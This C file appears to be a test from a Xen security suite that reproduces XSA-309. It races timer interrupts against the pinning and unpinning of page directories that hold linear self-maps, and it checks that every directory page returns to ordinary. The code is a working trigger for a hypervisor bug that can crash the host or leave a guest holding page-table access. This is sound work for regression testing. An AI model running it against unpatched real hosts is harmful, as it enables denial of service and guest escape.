/* SPDX-License-Identifier: MIT */
/*
 * XSA-309: linear maps in directories that are half checked.
 *
 * An entry of a page directory may name a directory, read-only: a linear map. Xen counts those uses
 * apart from the others, so that no chain of them gets long (XSA-240). When the check of a directory
 * was interrupted, or undone for a bad entry, that count was changed once too often or too seldom;
 * a guest could bring the hypervisor down with it, or keep a directory that it should not have had.
 *
 * Here a root has three directories, each full of tables, each with a linear map of itself at its end,
 * and the last with one of the first. The root is pinned and let go with a timer that interrupts both;
 * the handler changes linear entries, pins and unpins the directories, and makes them writable (but in
 * every fourth round). In every other round one directory has a bad last entry, so that all is undone. After each round every
 * page must be an ordinary one again: a use that was not given back would keep it a directory.
 *
 * Run: qemu
 * Machine: mem=256 icount=shift=0,sleep=off
 */
#include "../../attack.h"

#include <pv/event.h>
#include <pv/time.h>

#define TABLES 64
#define DIRECTORIES 3
#define OWN_MAP 509   /* slots of a directory: a linear map of itself, */
#define OTHER_MAP 510 /* of another directory, checked before; which may name none but itself */
#define LAST 511      /* and the last one, good or bad */
#define ROUNDS 40
#define MOST_OFTEN 20 /* times a round is interrupted: on a slow host it would never end */
#define PERIOD (NS_PER_MS / 16)

static pte_t *root, *top, *directories[DIRECTORIES], *tables[DIRECTORIES][TABLES];
static uint32_t interruptions, this_round, state = 4711;
static volatile bool busy, only_interrupt;

static uint32_t chance(uint32_t n)
{
    state = state * 1664525 + 1013904223;
    return (state >> 8) % n;
}

static pte_t linear_map_of(const void *directory)
{
    return pte_make(linear_to_mfn(directory), TABLE_FLAGS_RO);
}

/* What the guest may do, or may not, while the root is half checked or half undone. */
static void interfere(void)
{
    uint32_t d = chance(DIRECTORIES), slot = chance(2) ? OWN_MAP : OTHER_MAP;
    pte_t *directory = directories[d];

    switch (chance(5)) {
    case 0:
        write_entry(entry_of(directory, slot), 0);
        break;
    case 1:
        write_entry(entry_of(directory, slot), linear_map_of(directories[chance(DIRECTORIES)]));
        break;
    case 2:
        pin(directory, MMUEXT_PIN_L2_TABLE);
        break;
    case 3:
        pin(directory, MMUEXT_UNPIN_TABLE);
        break;
    default:
        if (make_writable(directory) == 0)
            make_readonly(directory);
    }
}

static void interrupt(void)
{
    if (!busy)
        return;
    interruptions++;
    for (int i = 0; i < 3 && !only_interrupt; i++)
        interfere();
    if (++this_round < MOST_OFTEN)
        timer_set(time_now() + PERIOD, interrupt);
}

static void build(void)
{
    uint32_t data_mfn = linear_to_mfn(page_alloc());

    root = page_alloc();
    top = page_alloc();
    memcpy(top, directory_of(VIRT_BASE), PAGE_SIZE);
    make_readonly(top);
    for (int d = 0; d < DIRECTORIES; d++) {
        directories[d] = page_alloc();
        for (int t = 0; t < TABLES; t++) {
            pte_t *table = tables[d][t] = page_alloc();

            for (int i = 0; i < 512; i++)
                table[i] = pte_make(data_mfn, PAGE_KERNEL);
            make_readonly(table);
            directories[d][t * 7] = pte_make(linear_to_mfn(table), TABLE_FLAGS);
        }
        root[d] = pte_make(linear_to_mfn(directories[d]), PTE_P);
    }
    root[3] = pte_make(linear_to_mfn(top), PTE_P);
    make_readonly(root);
}

/* The directories are ordinary pages: give them their linear maps, and one perhaps a bad entry. */
static void prepare(bool bad)
{
    for (int d = 0; d < DIRECTORIES; d++) {
        directories[d][OWN_MAP] = linear_map_of(directories[d]);
        directories[d][OTHER_MAP] = d == 2 ? linear_map_of(directories[0]) : 0;
        directories[d][LAST] = bad && d == DIRECTORIES - 1 ? pte_make(0x400, TABLE_FLAGS) : 0;
        make_readonly(directories[d]);
    }
}

/*
 * Every pin goes; then each directory must be an ordinary page. Directories that name each other keep
 * each other, so the linear maps go first where they can.
 */
static uint32_t still_directories(void)
{
    uint32_t stuck = 0;

    pin(root, MMUEXT_UNPIN_TABLE);
    for (int d = 0; d < DIRECTORIES; d++) {
        write_entry(entry_of(directories[d], OWN_MAP), 0);
        write_entry(entry_of(directories[d], OTHER_MAP), 0);
        pin(directories[d], MMUEXT_UNPIN_TABLE);
    }
    for (int d = 0; d < DIRECTORIES; d++)
        stuck += make_writable(directories[d]) != 0;
    return stuck;
}

int main(void)
{
    uint32_t pinned = 0, stuck = 0;

    build();
    for (int round = 0; round < ROUNDS && !stuck; round++) {
        prepare(round & 1);
        this_round = 0;
        only_interrupt = round % 4 == 0;
        busy = true;
        timer_set(time_now() + PERIOD, interrupt);
        pinned += pin(root, MMUEXT_PIN_L3_TABLE) == 0;
        pin(root, MMUEXT_UNPIN_TABLE);
        busy = false;
        stuck += still_directories();
    }
    tap_diag("%u of %d pins done, %u interruptions", (unsigned int)pinned, ROUNDS,
             (unsigned int)interruptions);
    tap_ok(interruptions > ROUNDS, "the handler ran while directories were checked or undone");
    tap_ok(pinned >= ROUNDS / 4, "roots with linear maps were pinned");
    tap_is(stuck, 0, "each time, every directory could be written again");
    tap_audit();
    tap_done();
}
